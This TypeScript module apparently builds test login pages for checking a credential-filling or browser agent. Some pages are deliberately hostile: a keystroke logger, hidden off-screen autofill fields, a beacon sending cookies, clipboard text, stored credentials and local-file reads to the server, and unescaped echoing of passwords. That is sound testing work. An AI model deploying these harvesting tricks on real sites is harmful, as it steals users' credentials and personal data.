import { sha256 } from '../builders/sha256.js';
import type { AppState, Call } from './browser-pages.js';

/** How an application answers, whatever is asked of it. */
export type Answering = (call: Call, state: AppState) => void;

/** A page whose form is posted to /login; `form` is shown at every other address, and after a refusal. */
export function posted(form: string): Answering {
  return (call, state) => {
    if (call.method !== 'POST' || call.path !== '/login') {
      call.html(form);
    } else if (state.fits(call.fields.get('username'), call.fields.get('password'))) {
      call.signIn();
      call.redirect('/account');
    } else call.html(`<p>Invalid user name or password.</p>${form}`, 401);
  };
}

/** A page whose script posts JSON to /api/login, and goes to the account; `sends` makes it of `name` and `word`. */
export function scripted(page: string, sends = '{ name, word }'): Answering {
  return (call, state) => {
    if (call.path !== '/api/login') {
      call.html(`${page}<p id="said"></p><script>
        async function signIn(name, word) {
          const answer = await fetch('/api/login', { method: 'POST', body: JSON.stringify(${sends}) });
          if (answer.ok) location.href = '/account';
          else document.getElementById('said').textContent = 'Wrong password';
        }
      </script>`);
      return;
    }
    const { name, word, digest } = JSON.parse(call.body) as Record<string, string | undefined>;
    const right =
      digest === undefined ? state.fits(name, word) : digest === sha256(`${state.username}:${state.password}`, 'hex');
    if (right) call.signIn();
    call.json({ ok: right }, right ? 200 : 401);
  };
}

export const plainForm = `<h1>Sign in</h1><form method="post" action="/login">
  <label>User name <input name="username"></label>
  <label>Password <input name="password" type="password"></label>
  <label><input type="checkbox" name="remember"> Remember me</label>
  <a href="/forgot">Forgot password?</a> <button>Sign in</button></form>`;

/** Neither labels nor a form, and what is pressed is no button. */
export const placeholders = scripted(`<div class="card"><div><input placeholder="E-mail"></div>
  <div><input placeholder="Password" type="password"><span style="cursor:pointer" onclick="void 0">Show</span></div>
  <div style="cursor:pointer" id="go">Log in</div></div>
  <script>document.getElementById('go').addEventListener('click', () => {
    const [name, word] = document.querySelectorAll('input');
    signIn(name.value, word.value);
  });</script>`);

/** The name first, on a page that also has a search and a newsletter. */
export const nameFirst: Answering = (call, state) => {
  if (call.path === '/login' && call.fields.has('identifier')) {
    call.html(`<h1>Welcome back</h1><form method="post" action="/login/password">
      <input type="hidden" name="username" value="${call.fields.get('identifier') ?? ''}">
      <label>Password <input name="password" type="password" autocomplete="current-password"></label>
      <button>Continue</button></form>`);
  } else if (call.path === '/login/password' && state.fits(call.fields.get('username'), call.fields.get('password'))) {
    call.signIn();
    call.redirect('/account');
  } else {
    call.html(`<form action="/search"><input type="search" name="q" placeholder="Search"></form>
      <h1>Sign in</h1><form method="post" action="/login"><label>E-mail <input name="identifier" type="email"></label>
      <button>Next</button></form>
      <form method="post" action="/newsletter"><input type="email" name="mail" placeholder="Your e-mail">
      <button>Subscribe</button></form>`);
  }
};

/** The form is in a shadow root, and each field in another one inside it. */
export function shadow(mode: 'open' | 'closed'): Answering {
  return scripted(`<my-login></my-login><script>
    customElements.define('my-field', class extends HTMLElement {
      constructor() {
        super();
        const root = this.attachShadow({ mode: '${mode}' });
        root.innerHTML = '<input>';
        this.input = root.firstChild;
      }
      connectedCallback() {
        this.input.type = this.getAttribute('kind');
        this.input.setAttribute('aria-label', this.getAttribute('label'));
      }
    });
    customElements.define('my-login', class extends HTMLElement {
      constructor() {
        super();
        const root = this.attachShadow({ mode: '${mode}' });
        root.innerHTML = '<my-field kind="text" label="User name"></my-field>' +
          '<my-field kind="password" label="Password"></my-field><button>Sign in</button>';
        const [name, word] = root.querySelectorAll('my-field');
        root.querySelector('button').onclick = () => signIn(name.input.value, word.input.value);
      }
    });
  </script>`);
}

/** A code in fields of one character each, in a dialog that fades and slides in. `moves`: the focus goes on by itself. */
export function segmented(moves: boolean): Answering {
  return (call, state) => {
    if (call.path === '/api/password') {
      const { name, word } = JSON.parse(call.body) as Record<string, string>;
      call.json({}, state.fits(name, word) ? 200 : 401);
      return;
    }
    if (call.path === '/api/code') {
      const right = call.body === state.code;
      if (right) call.signIn();
      call.json({}, right ? 200 : 401);
      return;
    }
    const box = '<input inputmode="numeric" maxlength="1" style="width:2em" aria-label="Digit">';
    call.html(`<style>dialog { transition: transform 0.6s, opacity 0.6s; transform: translateY(-200px); opacity: 0 }
      dialog.in { transform: none; opacity: 1 }</style>
      <form id="f"><input name="username" aria-label="User name"><input type="password" aria-label="Password">
      <button>Sign in</button></form>
      <dialog><h2>Two-factor authentication</h2><p>Enter the 6-digit code of your app.</p>
      <div id="boxes">${box.repeat(6)}</div><button id="verify">Verify</button></dialog><script>
      const [dialog] = document.getElementsByTagName('dialog');
      const boxes = [...document.querySelectorAll('#boxes input')];
      f.onsubmit = async (event) => {
        event.preventDefault();
        const [name, word] = f.querySelectorAll('input');
        const answer = await fetch('/api/password', { method: 'POST', body: JSON.stringify({ name: name.value, word: word.value }) });
        if (!answer.ok) return;
        dialog.showModal();
        setTimeout(() => dialog.className = 'in', 100);
      };
      boxes.forEach((box, index) => box.oninput = () => ${moves ? 'boxes[index + 1]?.focus()' : 'undefined'});
      verify.onclick = async () => {
        const code = boxes.map((box) => box.value).join('');
        const answer = await fetch('/api/code', { method: 'POST', body: code });
        if (answer.ok) location.href = '/account';
      };</script>`);
  };
}

/** What is sent is a digest of name and password. */
export const hashed = scripted(
  `<form onsubmit="event.preventDefault(); signIn(this.u.value, this.p.value)"><input name="u" aria-label="User">
  <input name="p" type="password" aria-label="Password"><button>Sign in</button></form>`,
  `{ digest: [...new Uint8Array(await crypto.subtle.digest('SHA-256', new TextEncoder().encode(name + ':' + word)))]
    .map((byte) => byte.toString(16).padStart(2, '0')).join('') }`,
);

/** Works longer on the password than Enter usually takes; `page` is what is shown, `reports` what runs on each key. */
export function slow(form: string, reports = ''): Answering {
  return scripted(
    `${form}<script>addEventListener('keydown', () => { ${reports} })</script>`,
    `{ name, word, worked: await new Promise((done) => setTimeout(done, 2500, true)) }`,
  );
}

export const slowForm = `<form onsubmit="event.preventDefault(); signIn(this.u.value, this.p.value)">
  <input name="u" aria-label="User"><input name="p" type="password" aria-label="Password"><button>Sign in</button></form>`;

/** A form in a shadow root, from which no event of forms comes out. */
export const slowInShadow = `<div id="host"></div><script>
  const root = host.attachShadow({ mode: 'open' });
  root.innerHTML = '<form><input name="u" aria-label="User"><input name="p" type="password" aria-label="Password">' +
    '<input type="submit" value="Sign in"></form>';
  const form = root.querySelector('form');
  form.onsubmit = (event) => { event.preventDefault(); signIn(form.u.value, form.p.value); };</script>`;

/** No form, and only its button does anything. */
export const slowByButton = `<div><input aria-label="User"><input type="password" aria-label="Password">
  <button onclick="signIn(...[...document.querySelectorAll('input')].map(({ value }) => value))">Sign in</button></div>`;

/** What a script reads a token by, and what it writes one by. */
interface Keeping {
  readonly get: string;
  readonly set: (token: string) => string;
}

/** The session is a token that the script keeps. */
function tokenKept({ get, set }: Keeping): Answering {
  return (call, state) => {
    if (call.path === '/api/login') {
      const { name, word } = JSON.parse(call.body) as Record<string, string>;
      if (state.fits(name, word)) call.json({ token: state.begin() });
      else call.json({}, 401);
    } else if (call.path === '/api/me') {
      const token = (call.headers.authorization ?? '').replace('Bearer ', '');
      call.json({}, state.knows(token) ? 200 : 401);
    } else {
      call.html(`<div id="app"></div><script>
        localStorage.setItem('theme', 'dark');
        async function draw() {
          const token = ${get};
          const answer = token && await fetch('/api/me', { headers: { authorization: 'Bearer ' + token } });
          if (answer && answer.ok) { app.innerHTML = '<h1>Your account</h1><button>Sign out</button>'; return; }
          app.innerHTML = '<form><input name="name" placeholder="User"><input name="word" type="password"><button>Sign in</button></form>';
          const [form] = document.forms;
          form.onsubmit = async (event) => {
            event.preventDefault();
            const [name, word] = form.querySelectorAll('input');
            const answer = await fetch('/api/login', { method: 'POST', body: JSON.stringify({ name: name.value, word: word.value }) });
            if (!answer.ok) return;
            ${set('(await answer.json()).token')};
            draw();
          };
        }
        draw();</script>`);
    }
  };
}

export const inSessionStorage = tokenKept({
  get: "sessionStorage.getItem('token')",
  set: (token) => `sessionStorage.setItem('token', ${token})`,
});

const inStore = (mode: string, ask: string): string => `await new Promise((done) => {
  const opening = indexedDB.open('tokens');
  opening.onupgradeneeded = () => opening.result.createObjectStore('kept');
  opening.onsuccess = () => {
    const asked = opening.result.transaction('kept', '${mode}').objectStore('kept').${ask};
    asked.onsuccess = () => done(asked.result);
  };
})`;

export const tokenInDatabase = tokenKept({
  get: inStore('readonly', "get('token')"),
  set: (token) => `const given = ${token}; ${inStore('readwrite', "put(given, 'token')")}`,
});

/** The session is kept in an IndexedDB database; another was there before. */
export const inDatabase = scripted(
  `<form onsubmit="event.preventDefault(); keep('auth').then(() => signIn(this.u.value, this.p.value))">
  <input name="u" aria-label="User"><input name="p" type="password" aria-label="Password"><button>Sign in</button></form>
  <script>const keep = (name) => new Promise((done) => { indexedDB.open(name).onsuccess = done; }); keep('cache');</script>`,
);

/** Something lies over everything until it is agreed to. */
export const consent =
  posted(`<style>#c { position: fixed; inset: 0; background: #000c; color: white; transition: opacity 0.3s }</style>
  ${plainForm}<div id="c"><p>We value your privacy.</p><a href="/partners">Our 900 partners</a>
  <button onclick="location.href='/settings'">Manage settings</button>
  <button onclick="document.getElementById('c').remove()">Accept all cookies</button></div>`);

/** Drawn after a second and a half, and drawn again over what was typed half a second after that. */
export const late = posted(`<div id="app"></div><script>
  const form = ${JSON.stringify(plainForm).replaceAll('</', '<\\/')};
  setTimeout(() => app.innerHTML = form, 1500);
  setTimeout(() => app.innerHTML = form, 2200);</script>`);

/** The way in is a link in a menu behind a button without words, among what must not be pressed. */
export const behindMenu: Answering = (call, state) => {
  if (call.path === '/login') posted(plainForm)(call, state);
  else if (call.path === '/')
    call.html(`<button onclick="fetch('/delete', { method: 'POST' })">Delete account</button>
      <a href="/register">Sign up</a> <a href="/logout">Log out everywhere</a>
      <button aria-haspopup="menu" aria-label="Account" onclick="m.hidden = false"><svg width="20" height="20"></svg></button>
      <div id="m" hidden><a href="/help">Help</a> <a href="/login">Log in</a></div>`);
  else call.html('<p>nothing here</p>', 404);
};

/** Tells the server of everything that is typed, and where. */
const tellTale = `<script>addEventListener('input', (event) =>
  navigator.sendBeacon('/typed', event.target.name + '=' + event.target.value), true);</script>`;

/** Nothing here takes a password, though its names say so. */
export const decoys: Answering = (call) =>
  call.html(`${tellTale}<h1>Sign in</h1>
    <form action="/a"><input name="password" placeholder="Password"><button>Sign in</button></form>
    <form action="/b"><h2>Forgot your password?</h2><input name="mail" type="email"><button>Reset password</button></form>
    <form action="/c"><input name="otp" type="password" autocomplete="one-time-code"><button>Verify</button></form>
    <form action="/d"><input name="cvc" type="password" aria-label="Card code"><button>Pay</button></form>
    <form action="/e"><input name="one" type="password"><input name="two" type="password"><button>Create account</button></form>`);

/** The same, and one form for the account. */
export const amongDecoys: Answering = (call, state) => {
  if (call.method === 'POST' && call.path === '/login') {
    if (!state.fits(call.fields.get('user'), call.fields.get('word'))) return call.html('<p>No.</p>', 401);
    call.signIn();
    call.redirect('/account');
    return;
  }
  const page = {
    ...call,
    html: (text: string) =>
      call.html(`${text}<form method="post" action="/login"><input name="user" aria-label="User name">
        <input name="word" type="password" aria-label="Password"><button>Log in</button></form>`),
  };
  decoys(page, state);
};

/** Takes whatever it can get hold of, in a sign-in with a field for everything. */
export const greedy: Answering = (call, state) => {
  if (call.method === 'POST' && call.path === '/login') {
    call.html(`${tellTale}<h1>Two-factor authentication</h1><form method="post" action="/code">
      <label>Code <input name="code" autocomplete="one-time-code"></label><button>Verify</button></form>`);
  } else if (call.method === 'POST' && call.path === '/code') {
    if (call.fields.get('code') !== state.code) return call.html('<p>No.</p>', 401);
    call.signIn();
    call.redirect('/account');
  } else if (call.path === '/') {
    const others = ['name', 'email', 'tel', 'street-address', 'cc-number', 'cc-csc', 'bday', 'organization'];
    call.html(`${tellTale}<h1>Sign in</h1><form method="post" action="/login">
      <label>User name <input name="user" autocomplete="username"></label>
      <label>Password <input name="word" type="password" autocomplete="current-password"></label><button>Sign in</button>
      ${others.map((name) => `<input name="${name}" autocomplete="${name}" tabindex="-1" style="position:absolute;left:-2000px">`).join('')}
      <input type="file" name="file" hidden></form><script>
      const one = (asked) => asked.then((given) => given ? String(given) : 'none', () => 'none');
      const file = (url) => one(fetch(url).then((answer) => answer.text())).then((text) => text === 'none' ? [] : [text]);
      const soon = (asked) => Promise.race([asked, new Promise((done) => setTimeout(done, 500, 'none'))]);
      (async () => navigator.sendBeacon('/taken', JSON.stringify({
        cookies: document.cookie, local: localStorage.length, session: sessionStorage.length,
        databases: (await indexedDB.databases()).length,
        files: [...await file('file:///etc/hostname'), ...await file('chrome://version'), ...await file('view-source:/')],
        credential: await soon(one(navigator.credentials.get({ password: true, mediation: 'silent' }))),
        clipboard: await soon(one(navigator.clipboard.readText())),
        name: window.name, opener: opener ? 'some' : 'none', referrer: document.referrer,
      })))();</script>`);
  } else call.html('<p>nothing here</p>', 404);
};

/** The form is in a frame, from the same host or from another one. */
export function framed(hostname: string): Answering {
  return (call, state) => {
    if (call.path === '/login') posted(`<base target="_top">${plainForm}`)(call, state);
    else {
      const port = (call.headers.host ?? '').split(':')[1] ?? '';
      call.html(`<h1>App</h1><div style="margin: 150px 0 0 60px">
        <iframe src="http://${hostname}:${port}/login" style="width: 500px; height: 400px; border: 3px solid"></iframe></div>`);
    }
  };
}

/** The form opens in a window of its own, which closes when it is done. */
export const popUp: Answering = (call, state) => {
  if (call.path === '/login' && call.method === 'POST') {
    if (!state.fits(call.fields.get('username'), call.fields.get('password'))) {
      call.html(plainForm, 401);
      return;
    }
    call.signIn();
    call.html('<script>opener.location = "/account"; close();</script>');
  } else if (call.path === '/login') call.html(plainForm);
  else call.html(`<button onclick="open('/login', 'login', 'width=500,height=500')">Log in</button>`);
};

/** Greets in dialogs before and after, and keeps a stream of events open. */
export const dialogs: Answering = (call, state) => {
  if (call.path === '/events') return;
  const noise = `<script>new EventSource('/events'); alert('Welcome!');
    document.forms[0]?.addEventListener('submit', (event) => { if (!confirm('Sign in here?')) event.preventDefault(); });</script>`;
  posted(plainForm + noise)(call, state);
};

/** Enter and every key send something that is no sign-in; only the button signs in. */
export const onlyByButton = scripted(`<div><input placeholder="User name"><input type="password" placeholder="Password">
  <button>Sign in</button></div><script>
  addEventListener('keydown', () => fetch('/telemetry', { method: 'POST', body: 'key' }));
  document.querySelector('button').onclick = () => {
    const [name, word] = document.querySelectorAll('input');
    signIn(name.value, word.value);
  };</script>`);

/** Shows in text, by parts and by style sheet what was typed, and says that it is wrong. */
export const echoing: Answering = (call) => {
  const [name, word] = [call.fields.get('username') ?? '', call.fields.get('password') ?? ''];
  const shown =
    name === ''
      ? ''
      : `<p id="wrong">Invalid login for ${name} with ${word}</p>
    <p><b>${name.slice(0, 3)}</b>${name.slice(3)}</p><p id="after"></p>
    <style>#after::after { content: '${word}'; }</style><canvas width="300" height="40"></canvas>
    <input value="${name}"><script>document.querySelector('canvas').getContext('2d').fillText('${word}', 10, 20)</script>`;
  call.html(`<style>* { font-family: monospace }</style>${shown}${plainForm}`);
};
